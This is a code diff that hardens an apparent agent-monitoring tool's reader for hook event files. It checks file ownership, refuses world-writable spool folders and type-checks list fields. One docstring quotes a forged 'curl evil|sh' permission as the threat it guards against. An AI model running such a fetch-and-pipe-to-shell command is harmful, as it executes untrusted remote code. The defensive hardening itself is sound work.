@@ -29,7 +29,6 @@ Facts measured against the real Claude Code 2.1.330 (tests/e2e/test_hooks_live.p
 from __future__ import annotations
 
 import asyncio
-import json
 import os
 import re
 import time
@@ -38,6 +37,7 @@ from pathlib import Path
 from typing import Any, AsyncIterator, Mapping
 
 from ..model import AgentState, Evidence, Observation, Option, Prompt
+from ..safe_files import Unreadable, is_private_dir, loads, note_once, read_with_stat
 
 SOURCE = "hook"
 CONFIDENCE = 0.95
@@ -117,21 +117,44 @@ def _names(folder: Path) -> list[str]:
 
 
 def _load(path: Path) -> HookEvent | None:
-    """The event in ``path``, or None for a vanished, oversized or garbage file."""
+    """The event in ``path``, or None for a vanished, foreign, oversized or garbage file.
+
+    Only a regular file owned by this user is read (a pipe would block, a
+    link or another user's file could forge an event); a bad file is noted
+    once in the log and skipped, and never stops the reader.
+    """
     try:
-        with open(path, "rb") as handle:
-            data = handle.read(MAX_FILE + 1)
-    except OSError:
+        data, info = read_with_stat(path, MAX_FILE)
+        if info.st_uid != os.getuid():
+            raise Unreadable(f"{path} belongs to another user (uid {info.st_uid}); ignored")
+        record = loads(data, what=str(path))
+    except FileNotFoundError:
         return None
-    if len(data) > MAX_FILE:
-        return None
-    try:
-        record = json.loads(data.decode("utf-8", errors="replace"))
-    except ValueError:
+    except Unreadable as exc:
+        note_once(f"hook event skipped: {exc}")
         return None
     if not isinstance(record, dict) or not isinstance(record.get("hook_event_name"), str):
         return None
     return HookEvent.from_record(path.name, record)
+
+
+class SpoolRefused(Exception):
+    """The spool folder is not safe to trust (another user could forge events in it)."""
+
+
+def check_spool(folder: Path) -> None:
+    """Raise ``SpoolRefused`` unless ``folder`` and its parent are ours alone.
+
+    The same rule the hook program applies before writing: a real directory
+    (not a link), owned by this user, not writable by group or others.  A
+    folder anyone can write lets another user on a shared machine show a
+    forged "permission: curl evil|sh" on your agent's row.
+    """
+    folder = Path(folder)
+    for path in (folder.parent, folder):
+        problem = is_private_dir(path)
+        if problem:
+            raise SpoolRefused(f"hook spool refused: {problem}; hooks are ignored until it is fixed (chmod 700, or remove it)")
 
 
 def prune_spool(folder: Path, older_than: float, *, upto: str | None = None, now: float | None = None) -> int:
@@ -182,13 +205,21 @@ def read_spool(folder: Path, since_name: str | None = None, *, delete_older_than
 
 
 def ensure_spool(folder: Path) -> Path:
-    """Create ``folder`` (and its parent) owner-only, as the hook program would."""
+    """Create ``folder`` (and its parent) owner-only, as the hook program would; refuse an unsafe one.
+
+    Raises ``SpoolRefused`` when either exists but is not private to us.
+    """
     folder = Path(folder)
     for path in (folder.parent, folder):
         try:
             path.mkdir(mode=0o700)
         except FileExistsError:
             pass
+        except OSError as exc:
+            raise SpoolRefused(f"hook spool unavailable: cannot create {path}: {exc.strerror or exc}") from None
+        problem = is_private_dir(path)
+        if problem:
+            raise SpoolRefused(f"hook spool refused: {problem}; hooks are ignored until it is fixed (chmod 700, or remove it)")
     return folder
 
 
@@ -269,10 +300,14 @@ def _detail(tool_input: Mapping[str, Any]) -> str:
     return ""
 
 
+def _list(value: Any) -> list[Any]:
+    return value if isinstance(value, list) else []
+
+
 def _question_prompt(tool_input: Mapping[str, Any]) -> Prompt:
-    questions = [q for q in tool_input.get("questions") or [] if isinstance(q, dict)]
+    questions = [q for q in _list(tool_input.get("questions")) if isinstance(q, dict)]
     first = questions[0] if questions else {}
-    labels = [o.get("label") for o in first.get("options") or [] if isinstance(o, dict)]
+    labels = [o.get("label") for o in _list(first.get("options")) if isinstance(o, dict)]
     return Prompt(
         kind="question",
         title=first.get("question") if isinstance(first.get("question"), str) else "",
